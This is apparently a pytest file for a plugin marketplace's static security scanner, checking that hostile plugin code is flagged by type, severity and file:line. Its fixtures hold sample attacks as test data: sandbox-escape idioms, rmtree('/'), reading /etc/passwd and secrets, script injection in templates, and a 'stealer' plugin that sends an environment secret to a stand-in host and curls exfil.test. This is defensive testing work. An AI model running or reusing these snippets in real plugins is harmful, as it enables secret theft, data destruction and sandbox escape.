"""The static security scan: the example plugins pass, hostile code is named by file:line."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pliers_lab.manifest import parse_manifest
from pliers_lab.market import build_bundle, open_bundle, scan_bundle, scan_folder
from pliers_lab.market.scan import WEIGHTS, SecurityIssue, scan_files, score_of

from .conftest import EXAMPLES, EXTENSIONS


def manifest(**fields) -> object:
    return parse_manifest(
        {
            "name": "sample",
            "version": "1.0.0",
            "description": "a scanned sample plugin",
            "author": "x",
            "license": "MIT",
            "engines": {"pliers": "^3.0.0", "python": ">=3.11"},
            **fields,
        }
    )


def scan(code: str, **fields) -> list[tuple[str, str, str]]:
    result = scan_files({"plugin.py": code.encode()}, manifest(**fields))
    return [(i.severity, i.type, i.location or "") for i in result.issues]


@pytest.mark.parametrize("name", EXAMPLES)
def test_example_plugins_are_clean(name: str) -> None:
    result = scan_folder(EXTENSIONS / name)
    assert result.safe and result.score == 100, [i.to_dict() for i in result.issues]
    assert result.files_scanned >= 4


def test_every_example_in_the_folder_scores_high() -> None:
    for folder in sorted(p for p in EXTENSIONS.iterdir() if (p / "manifest.json").is_file()):
        result = scan_folder(folder)
        assert result.safe and result.score >= 80, (folder.name, result.to_dict())


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import subprocess\n", ("critical", "process-execution", "plugin.py:1")),
        (
            "import subprocess as sp\nsp.run(['ls'])\n",
            ("critical", "process-execution", "plugin.py:1"),
        ),
        ("import os\n\nos.system('id')\n", ("critical", "process-execution", "plugin.py:3")),
        ("from os import system\nsystem('id')\n", ("critical", "process-execution", "plugin.py:2")),
        ("__import__('os').popen('id')\n", ("critical", "process-execution", "plugin.py:1")),
        ("from ctypes import CDLL\n", ("critical", "native-code", "plugin.py:1")),
        ("eval(input())\n", ("high", "dynamic-code", "plugin.py:1")),
        ("exec(compile('1', 'x', 'exec'))\n", ("high", "dynamic-code", "plugin.py:1")),
        (
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
            ("critical", "obfuscated-code", "plugin.py:2"),
        ),
        ("import pickle\n", ("high", "unsafe-deserialization", "plugin.py:1")),
        ("import yaml\nyaml.load(open_data)\n", ("high", "unsafe-deserialization", "plugin.py:2")),
        (
            "import importlib\nimportlib.import_module(name)\n",
            ("high", "dynamic-import", "plugin.py:2"),
        ),
        (
            "import importlib\nm = importlib.import_module('socket')\n",
            ("high", "undeclared-network", "plugin.py:2"),
        ),
        (
            "x = ().__class__.__base__.__subclasses__()\n",
            ("critical", "sandbox-escape", "plugin.py:1"),
        ),
        (
            "f = lambda: 0\ng = f.__globals__['__builtins__']\n",
            ("critical", "sandbox-escape", "plugin.py:2"),
        ),
        ("g = getattr(f, '__globals__')\n", ("critical", "obfuscated-access", "plugin.py:1")),
        ("import sys\nframe = sys._getframe(1)\n", ("high", "frame-introspection", "plugin.py:2")),
        ("import gc\ngc.get_objects()\n", ("critical", "sandbox-escape", "plugin.py:2")),
        (
            "import builtins\nbuiltins.open = None\n",
            ("critical", "builtins-tampering", "plugin.py:2"),
        ),
        ("import sys\nsys.modules['json'] = None\n", ("medium", "import-tampering", "plugin.py:2")),
        (
            "import os\nkey = os.environ['AWS_SECRET']\n",
            ("low", "environment-access", "plugin.py:2"),
        ),
        ("open('/etc/passwd').read()\n", ("high", "sensitive-path", "plugin.py:1")),
        ("open('/tmp/x', 'w').write('x')\n", ("critical", "write-outside", "plugin.py:1")),
        ("import shutil\nshutil.rmtree('/')\n", ("critical", "write-outside", "plugin.py:2")),
        ("open('out.txt', 'w')\n", ("high", "undeclared-filesystem-write", "plugin.py:1")),
        (
            "from pathlib import Path\nPath('x').write_text('y')\n",
            ("high", "undeclared-filesystem-write", "plugin.py:2"),
        ),
        (
            "data = open('notes.txt').read()\n",
            ("medium", "undeclared-filesystem-read", "plugin.py:1"),
        ),
        ("import socket\n", ("high", "undeclared-network", "plugin.py:1")),
        ("import urllib.request\n", ("high", "undeclared-network", "plugin.py:1")),
        ("import requests\n", ("high", "undeclared-network", "plugin.py:1")),
        ("from os import *\n", ("medium", "wildcard-import", "plugin.py:1")),
        (
            "URL = 'https://collect.evil.test/x'\n",
            ("medium", "undeclared-network-host", "plugin.py:1"),
        ),
        (
            "def h(ctx):\n    ctx.api.database.insert('t', {})\n",
            ("medium", "undeclared-permission", "plugin.py:2"),
        ),
        (
            "def h(ctx):\n    ctx.api.http.post(url)\n",
            ("medium", "undeclared-permission", "plugin.py:2"),
        ),
        ("BLOB = '" + "QUFB" * 200 + "'\n", ("medium", "obfuscated-payload", "plugin.py:1")),
    ],
)
def test_hostile_code_is_found_with_its_location(code: str, expected: tuple[str, str, str]) -> None:
    found = scan(code)
    assert expected in found, found


def test_a_file_that_does_not_parse_is_reported() -> None:
    assert scan("def broken(:\n") == [("high", "unparsable-code", "plugin.py:1")]
    result = scan_files({"plugin.py": b"\xff\xfe"}, manifest())
    assert result.issues[0].type == "unparsable-code" and not result.safe


def test_docstrings_and_safe_yaml_are_not_findings() -> None:
    code = '"""See https://docs.example.com/guide for details."""\nimport yaml\n'
    code += "yaml.load(data, Loader=yaml.SafeLoader)\nimportlib_name = 'x'\n"
    assert scan(code) == []


def test_declared_permissions_turn_findings_into_nothing_or_low() -> None:
    code = (
        "def h(ctx):\n"
        "    ctx.api.database.insert('submissions', {})\n"
        "    ctx.api.http.post('https://api.crm.test/contacts')\n"
    )
    assert (
        scan(
            code,
            permissions={
                "database": {"write": ["submissions"]},
                "network": {"outbound": ["api.crm.test"]},
            },
        )
        == []
    )
    assert scan("import socket\n", permissions={"network": ["outbound"]}) == [
        ("low", "broad-permission", "manifest.json"),
        ("low", "direct-network", "plugin.py:1"),
    ]
    assert scan("open('x.txt', 'w')\n", permissions={"filesystem": {"write": ["data/*"]}}) == [
        ("low", "direct-filesystem", "plugin.py:1")
    ]


def test_hosts_outside_the_allow_list_are_named() -> None:
    code = "A = 'https://api.crm.test/v1'\nB = 'https://elsewhere.test:8443/x'\n"
    result = scan_files(
        {"plugin.py": code.encode()},
        manifest(permissions={"network": {"outbound": ["*.crm.test", "api.crm.test"]}}),
    )
    assert result.hosts == ("api.crm.test", "elsewhere.test:8443")
    assert [(i.type, i.location) for i in result.issues] == [("host-not-allowed", "plugin.py:2")]
    assert "elsewhere.test:8443" in result.issues[0].description


def test_templates_binaries_archives_and_startup_hooks() -> None:
    files = {
        "templates/card.html": (
            b"<p>ok</p>\n<a href='javascript:alert(1)'>x</a>\n<img onerror=steal()>"
        ),
        "static/app.svg": b"<svg><script>fetch('/x')</script></svg>",
        "lib/_speedups.so": b"\x7fELF...",
        "vendor.zip": b"PK",
        "sitecustomize.py": b"",
        "README.md": b"<script>ignored in docs</script>",
    }
    result = scan_files(files, manifest())
    found = {(i.severity, i.type, i.location) for i in result.issues}
    assert found == {
        ("high", "template-script", "templates/card.html:2"),
        ("medium", "inline-event-handler", "templates/card.html:3"),
        ("high", "template-script", "static/app.svg:1"),
        ("high", "compiled-code", "lib/_speedups.so"),
        ("medium", "nested-archive", "vendor.zip"),
        ("high", "startup-hook", "sitecustomize.py"),
    }


def test_the_manifest_itself_is_reviewed() -> None:
    found = scan(
        "", isolation="inline", permissions={"filesystem": ["write"], "database": ["execute"]}
    )
    assert set(found) == {
        ("high", "inline-isolation", "manifest.json"),
        ("low", "broad-permission", "manifest.json"),
    }
    assert len(found) == 3
    # issue 13 §1: a bundle cannot take itself out of the sandbox, so asking is high risk
    alone = scan_files({"plugin.py": b""}, manifest(isolation="inline"))
    assert alone.safe is False and alone.score == 80


def test_unused_permissions_become_recommendations() -> None:
    result = scan_files(
        {"plugin.py": b"X = 1\n"},
        manifest(permissions={"network": {"outbound": ["api.test"]}, "events": ["publish"]}),
    )
    assert result.issues == ()
    assert result.recommendations == (
        "network.outbound is declared but the code never uses it: drop it (least privilege).",
        "events.publish is declared but the code never uses it: drop it (least privilege).",
    )


def test_the_documented_scoring_rule() -> None:
    def issues(*specs: tuple[str, str]) -> list[SecurityIssue]:
        return [SecurityIssue(sev, kind, "d", None, "r") for kind, sev in specs]  # type: ignore[arg-type]

    assert WEIGHTS == {"critical": 40, "high": 20, "medium": 8, "low": 2}
    assert score_of([]) == 100
    assert score_of(issues(("a", "critical"))) == 60
    assert score_of(issues(("a", "critical"), ("b", "critical"))) == 20
    assert score_of(issues(("a", "medium"), ("a", "medium"))) == 90  # 8 + 2
    assert score_of(issues(*[("a", "low")] * 50)) == 96  # 2 + 4 repeats x 0.5
    assert score_of(issues(("a", "critical"), ("b", "high"), ("c", "high"), ("d", "critical"))) == 0


def test_a_hostile_bundle_scores_low_and_unsafe(tmp_path: Path, make_plugin, dist: Path) -> None:
    folder = make_plugin(
        "stealer",
        code=(
            "import os, socket\n"
            "from pliers_lab import hook\n\n"
            "@hook('export.format')\n"
            "def answer(ctx):\n"
            "    s = socket.create_connection(('203.0.113.9', 80))\n"
            "    s.send(os.environ.get('SECRET', '').encode())\n"
            "    os.system('curl https://exfil.test/$(whoami)')\n"
        ),
    )
    result = scan_bundle(open_bundle(build_bundle(folder, dist)))
    assert not result.safe and result.score <= 40
    locations = {(i.type, i.location) for i in result.issues}
    assert ("undeclared-network", "plugin.py:1") in locations
    assert ("process-execution", "plugin.py:8") in locations
    assert ("undeclared-network-host", "plugin.py:8") in locations
    as_dict = result.to_dict()
    assert set(as_dict) >= {"safe", "issues", "recommendations", "score"}
    assert set(as_dict["issues"][0]) == {
        "severity",
        "type",
        "description",
        "location",
        "recommendation",
    }
    json.dumps(as_dict)


def test_an_invalid_manifest_is_scanned_as_granting_nothing(tmp_path: Path) -> None:
    import zipfile

    path = tmp_path / "x.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("manifest.json", '{"name": "x"}')
        zf.writestr("plugin.py", "import socket\n")
    result = scan_bundle(open_bundle(path))
    assert [(i.type, i.severity) for i in result.issues] == [("undeclared-network", "high")]


@pytest.mark.parametrize(
    ("call", "permission"),
    [
        ("ctx.api.database.fetch('orders')", "database.read"),
        ("ctx.api.database.exists('orders')", "database.read"),
        ("ctx.api.files.append('log.txt', 'x')", "filesystem.write"),
    ],
)
def test_the_scan_knows_every_operation_the_sandbox_gate_knows(call: str, permission: str) -> None:
    """The scan reads the sandbox host's own tables: an operation the gate checks is one
    the scan asks a permission for (it once missed fetch, exists and append)."""
    assert scan(f"def h(ctx):\n    {call}\n") == [
        ("medium", "undeclared-permission", "plugin.py:2")
    ]
    granted = (
        {"database": ["read"]}
        if permission == "database.read"
        else {"filesystem": ["read", "write"]}
    )
    found = scan(f"def h(ctx):\n    {call}\n", permissions=granted)
    assert [f for f in found if f[1] == "undeclared-permission"] == []
    if permission == "filesystem.write":  # reading is not enough to append
        only_read = scan(f"def h(ctx):\n    {call}\n", permissions={"filesystem": ["read"]})
        assert ("medium", "undeclared-permission", "plugin.py:2") in only_read
